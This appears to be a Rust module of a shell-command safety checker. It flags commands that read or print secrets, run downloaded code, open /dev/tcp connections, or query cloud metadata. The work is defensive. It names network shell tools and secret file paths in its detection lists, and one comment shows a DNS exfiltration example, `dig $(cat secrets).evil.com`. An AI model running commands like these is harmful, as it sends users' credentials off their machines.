//! Checks that apply to every program whatever its rule says (secrets read or printed, code that
//! was downloaded) and to redirections (what a `>` writes, what a `<` reads).

use super::{Engine, NOT_READERS, PRINTERS, has_subscript_substitution, word_downloads};
use crate::policy::invocation::Invocation;
use crate::policy::parse::Redirect;
use crate::policy::paths;
use crate::policy::paths::metadata;
use crate::policy::rules;
use crate::policy::verdict::Verdict;

/// Programs that send their arguments (host names, queries) over the network.
const NETWORK_PROGRAMS: &[&str] = &[
    "dig", "drill", "nslookup", "host", "whois", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr",
    "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "git",
];

impl Engine<'_> {
    /// A variable whose name looks secret, or one this line assigned from such a variable
    /// (`x=$GITHUB_TOKEN; echo $x`, `for t in $TOKEN; do echo $t; done`).
    pub(super) fn secret_variable(&self, name: &str) -> bool {
        paths::secret_variable(name) || self.secret_copies.contains(name)
    }

    /// Checks every program gets whatever its rule says: secrets read or printed, downloaded code.
    pub(super) fn argument_checks(&self, inv: &Invocation) -> Verdict {
        let mut verdict = Verdict::SAFE;
        let patterns = search_patterns(inv);
        if !NOT_READERS.contains(&inv.name) {
            for (index, word) in inv.args.iter().enumerate() {
                if patterns.contains(&index) {
                    continue;
                }
                let text = word.text.as_str();
                // `--key=~/.ssh/id_rsa`, `@.env` (curl), `HEAD:.env` (git show).
                let candidates = [
                    Some(text),
                    text.split_once('=').map(|(_, v)| v),
                    text.strip_prefix('@'),
                    text.split_once(':').map(|(_, v)| v),
                ];
                let reaches =
                    |c: &&str| !c.is_empty() && (paths::secret(c) || (word.glob && paths::glob_may_reach_secret(c)));
                if let Some(path) = candidates.into_iter().flatten().find(reaches) {
                    verdict = verdict.max(Verdict::high(format!(
                        "reads a secret ({path}); its contents would be sent to the model provider"
                    )));
                }
            }
        }
        if let Some((option, path)) = echoed_file_options(inv).into_iter().find(|(_, path)| paths::secret(path)) {
            verdict = verdict.max(Verdict::high(format!(
                "reads a secret ({path}) through {option}; its lines come back in the output or the error messages"
            )));
        }
        for var in inv.args.iter().flat_map(|w| w.vars.iter()) {
            if self.secret_variable(var) {
                let printing = PRINTERS.contains(&inv.name);
                let copy = if paths::secret_variable(var) { "" } else { ", a copy of a secret variable" };
                let var = format!("{var}{copy}");
                verdict = verdict.max(if printing {
                    Verdict::high(format!("prints the secret variable ${var}"))
                } else {
                    Verdict::medium(format!("uses the secret variable ${var}"))
                });
            }
        }
        if inv.name == "printenv"
            && let Some(name) = inv.texts().find(|t| paths::secret_variable(t))
        {
            verdict = verdict.max(Verdict::high(format!("prints the secret variable {name}")));
        }
        if rules::runs_code(inv.name) && inv.args.iter().any(|w| word_downloads(w, &self.downloaded_vars)) {
            verdict = verdict.max(Verdict::high("runs code downloaded from the network"));
        }
        if let Some(file) = inv.args.iter().find(|w| self.downloaded_files.contains(w.text.trim_start_matches("./")))
            && (rules::runs_code(inv.name) || inv.name == "chmod")
        {
            let what = if inv.name == "chmod" { "makes executable" } else { "runs" };
            verdict = verdict.max(Verdict::high(format!("{what} {}, which was just downloaded", file.text)));
        }
        if let Some(word) = inv.args.iter().find(|w| has_subscript_substitution(&w.text)) {
            verdict = verdict.max(Verdict::medium(format!(
                "an array subscript with a command substitution ({}) runs it when bash does arithmetic",
                word.text
            )));
        }
        if let Some(word) = config_from_stdin(inv.args) {
            verdict = verdict.max(Verdict::medium(format!(
                "takes an option value from stdin or an inherited descriptor ({}); a config read that way can run programs",
                word.text
            )));
        }
        let client = is_network_client(inv.name);
        if let Some(address) = inv.args.iter().find_map(|w| metadata::address_in(&w.text, client)) {
            let client = client || inv.args.iter().any(|w| w.text.contains("://"));
            verdict = verdict.max(if client {
                Verdict::high(format!("reads cloud instance metadata at {address} (can return credentials)"))
            } else {
                Verdict::medium(format!("names the cloud metadata address {address}"))
            });
        }
        if is_http_client(inv.name) {
            for word in inv.args {
                if let Some(scheme) = paths::local::other_scheme(&word.text) {
                    verdict = verdict.max(Verdict::medium(format!(
                        "uses the {scheme}:// scheme; only http and https requests are known to be read-only"
                    )));
                }
                // `--resolve example.com:443:127.0.0.1` and `--connect-to` send the request here too.
                let bare = !word.text.starts_with('-');
                let parts = word.text.split(':').filter(|_| bare && word.text.matches(':').count() >= 2);
                let local = paths::local::local_host_in(&word.text, bare)
                    .or_else(|| parts.filter_map(|p| paths::local::local_host_in(p, true)).next());
                if let Some(host) = local.filter(|_| !paths::local::is_probe(&word.text)) {
                    verdict = verdict.max(Verdict::medium(format!(
                        "requests a service on this machine ({host}) beyond a health or metrics probe; local services often trust local callers"
                    )));
                }
            }
        }
        // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
        let network = NETWORK_PROGRAMS.contains(&inv.name);
        if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
            verdict = verdict.max(Verdict::medium(format!(
                "contacts an address built at run time ({}), which can carry data off the host",
                word.text
            )));
        }
        verdict
    }

    pub(super) fn redirect(&mut self, redirect: &Redirect, subject: &str, metadata_reader: bool, nesting: usize) {
        // Substitutions in a target or an unquoted here-document run before the command does.
        for word in redirect.target.iter().chain(redirect.heredoc.iter()) {
            for sub in &word.subs {
                self.script(sub, nesting);
            }
        }
        // `cat <<<"$TOKEN"`, a here-document naming `$AWS_SECRET_ACCESS_KEY`: the value is the input.
        let fed = redirect.heredoc.iter().chain(redirect.target.iter().filter(|_| redirect.op == "<<<"));
        if let Some(var) = fed.flat_map(|w| w.vars.iter()).find(|v| self.secret_variable(v)) {
            self.add(
                subject,
                &Verdict::high(format!("feeds the secret variable ${var} to the command's input, which can print it")),
            );
        }
        let Some(target) = redirect.target.as_ref() else {
            return;
        };
        let op = redirect.op.as_str();
        if op == "<<<" || op.starts_with("<<") {
            return;
        }
        let text = target.text.as_str();
        let subject = format!("{subject} ({op} {text})");
        if text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
            self.add(
                &subject,
                &Verdict::high("opens a network connection through /dev/tcp (reverse shell or exfiltration)"),
            );
            return;
        }
        // `>&2`, `2>&1`, `>&-`: duplicating the standard descriptors writes nothing.
        let is_fd = text == "-" || text.chars().all(|c| c.is_ascii_digit());
        if (op.ends_with('&') || op.starts_with(">&") || op.starts_with("<&")) && is_fd {
            if !matches!(text, "-" | "0" | "1" | "2") {
                self.add(
                    &subject,
                    &Verdict::medium("uses an inherited file descriptor (it may be a file or a socket)"),
                );
            }
            return;
        }
        if let Some(why) = descriptor_path(text) {
            self.add(&subject, &Verdict::medium(why));
            return;
        }
        if redirect.is_input() {
            if !metadata_reader && paths::secret(text) {
                self.add(&subject, &Verdict::high("reads a secret; its contents would be sent to the model provider"));
            }
            return;
        }
        if matches!(text, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/fd/1" | "/dev/fd/2") {
            return;
        }
        self.add(&subject, &crate::policy::programs::write_target(target, "writes"));
    }
}

/// Network clients: a metadata address among their arguments is a request to it.
/// Options whose value is a file the program reads line by line and echoes back (as names in
/// its error messages, as data), also for programs that otherwise show only metadata.
const ECHOED_FILE_LONG: &[&str] = &[
    "--files0-from", "-files0-from", "--files-from", "--from-file", "--to-file", "--exclude-from", "--file",
    "--rawfile", "--slurpfile", "--arg-file", "--magic-file", "--include-from", "--patterns-from",
];
/// The same, as short options of one program.
const ECHOED_FILE_SHORT: &[(&str, &[&str])] =
    &[("file", &["-f", "-m"]), ("du", &["-X"]), ("xargs", &["-a"]), ("grep", &["-f"]), ("tar", &["-T", "-X"])];
/// Checksum tools read the operand of `-c`/`--check` as a list of names and echo them.
const CHECKSUM_TOOLS: &[&str] =
    &["md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "shasum"];

fn echoed_file_options<'t>(inv: &Invocation<'t>) -> Vec<(String, &'t str)> {
    let shorts = ECHOED_FILE_SHORT.iter().find(|(name, _)| *name == inv.name).map_or(&[][..], |(_, s)| *s);
    if CHECKSUM_TOOLS.contains(&inv.name)
        && inv.texts().any(|t| t == "--check" || t.starts_with('-') && !t.starts_with("--") && t.contains('c'))
    {
        return inv.positionals().iter().map(|w| ("--check".to_owned(), w.text.as_str())).collect();
    }
    let texts: Vec<&str> = inv.texts().collect();
    texts
        .iter()
        .enumerate()
        .filter_map(|(i, text)| {
            let next = texts.get(i + 1).copied();
            if let Some((key, value)) = text.split_once('=')
                && ECHOED_FILE_LONG.contains(&key)
            {
                return Some((key.to_owned(), value));
            }
            if ECHOED_FILE_LONG.contains(text) || shorts.contains(text) {
                return next.map(|value| ((*text).to_owned(), value));
            }
            let attached = shorts.iter().find_map(|s| text.strip_prefix(s).filter(|v| !v.is_empty()));
            attached.map(|value| (text.get(..2).unwrap_or(text).to_owned(), value))
        })
        .collect()
}

/// Clients that fetch URLs (their bare words are hosts).
fn is_http_client(name: &str) -> bool {
    matches!(
        name,
        "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "aria2c" | "lynx" | "w3m" | "links" | "fetch" | "wget2"
    )
}

fn is_network_client(name: &str) -> bool {
    NETWORK_PROGRAMS.contains(&name)
        || matches!(
            name,
            "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "aria2c" | "lynx" | "w3m" | "links" | "socat"
        )
}

/// `/dev/fd/3`, `/proc/self/fd/5`, `/proc/1/fd/1`: a descriptor the shell inherited (a file, a
/// pipe or a socket opened by whoever started it), or another process's files.
fn descriptor_path(text: &str) -> Option<&'static str> {
    let standard = |fd: &str| matches!(fd, "0" | "1" | "2");
    if let Some(fd) = text.strip_prefix("/dev/fd/") {
        return (!standard(fd)).then_some("uses an inherited file descriptor (it may be a file or a socket)");
    }
    let rest = text.strip_prefix("/proc/")?;
    let (process, fd) = rest.split_once("/fd/").or_else(|| rest.strip_suffix("/fd").map(|p| (p, "")))?;
    if matches!(process, "self" | "thread-self") && standard(fd) {
        return None;
    }
    Some("opens a file descriptor through /proc (another process's files, or an inherited one)")
}

/// `--kubeconfig=/dev/stdin`, `-F /dev/stdin`, `--config <(…)`: a configuration the command line
/// feeds in where nobody sees it, and configs can name programs to run.
fn config_from_stdin(args: &[crate::policy::word::Word]) -> Option<&crate::policy::word::Word> {
    let hidden = |value: &str| {
        matches!(value, "/dev/stdin" | "/proc/self/fd/0")
            || value.starts_with("/dev/fd/")
            || value.starts_with("/proc/self/fd/")
            || value.starts_with("<(")
    };
    args.iter().enumerate().find_map(|(i, word)| {
        let text = word.text.as_str();
        let attached = text.starts_with('-') && text.split_once('=').is_some_and(|(_, v)| hidden(v));
        let after_option = i > 0
            && args
                .get(i - 1)
                .is_some_and(|prev| prev.text.starts_with('-') && prev.text.len() > 1 && !prev.text.contains('='))
            && hidden(text);
        (attached || after_option).then_some(word)
    })
}

/// Indices of the arguments a search program takes as patterns or file-name globs, not files:
/// `grep -rn id_rsa .` searches for the text `id_rsa`, it reads no key. The program's own option
/// table says which words are operands (option values such as `--include=*.env` or `-e PAT` are
/// not); the first operand is the pattern unless `-e`/`-f` gave one.
fn search_patterns(inv: &Invocation) -> Vec<usize> {
    let (args, offset, table) = match inv.name {
        "grep" | "egrep" | "fgrep" | "zgrep" | "zegrep" | "zfgrep" | "rg" | "ag" | "ack" => {
            let Some((_, rules::Rule::Options(table))) = rules::lookup(inv.name) else { return Vec::new() };
            (inv.args, 0, *table)
        }
        "git" if inv.args.first().is_some_and(|sub| sub.text == "grep") => {
            (&inv.args[1..], 1, &crate::policy::programs::git_tables::GIT_READ)
        }
        _ => return Vec::new(),
    };
    let operands = table.operand_indices(args);
    let given_by_option = args.iter().take_while(|w| w.text != "--").any(|w| {
        let t = w.text.as_str();
        t.starts_with("--regexp")
            || t.starts_with("--file")
            || (t.starts_with('-') && !t.starts_with("--") && t[1..].contains(['e', 'f']))
    });
    // Option values are not reads either: everything that is not an operand, except `-f FILE`.
    let mut skipped: Vec<usize> = (0..args.len()).filter(|i| !operands.contains(i)).map(|i| i + offset).collect();
    if !given_by_option && let Some(first) = operands.first() {
        skipped.push(first + offset);
    }
    skipped.retain(|&i| !is_pattern_file(inv.args, i));
    skipped
}

/// Option values that name a file the program reads (`-f PATTERNS`, `--exclude-from=F`,
/// `--ignore-file F`): those stay subject to the secret check.
fn is_pattern_file(args: &[crate::policy::word::Word], index: usize) -> bool {
    const FILE_OPTIONS: &[&str] =
        &["--file", "--exclude-from", "--ignore-file", "--path-to-ignore", "--ignore-file-case-insensitive"];
    let Some(word) = args.get(index) else { return false };
    let text = word.text.as_str();
    let previous = index.checked_sub(1).and_then(|i| args.get(i)).map(|w| w.text.as_str());
    let attached = text.split_once('=').is_some_and(|(name, _)| FILE_OPTIONS.contains(&name));
    attached
        || (text.starts_with("-f") && text.len() > 2)
        || previous.is_some_and(|p| p == "-f" || FILE_OPTIONS.contains(&p))
}
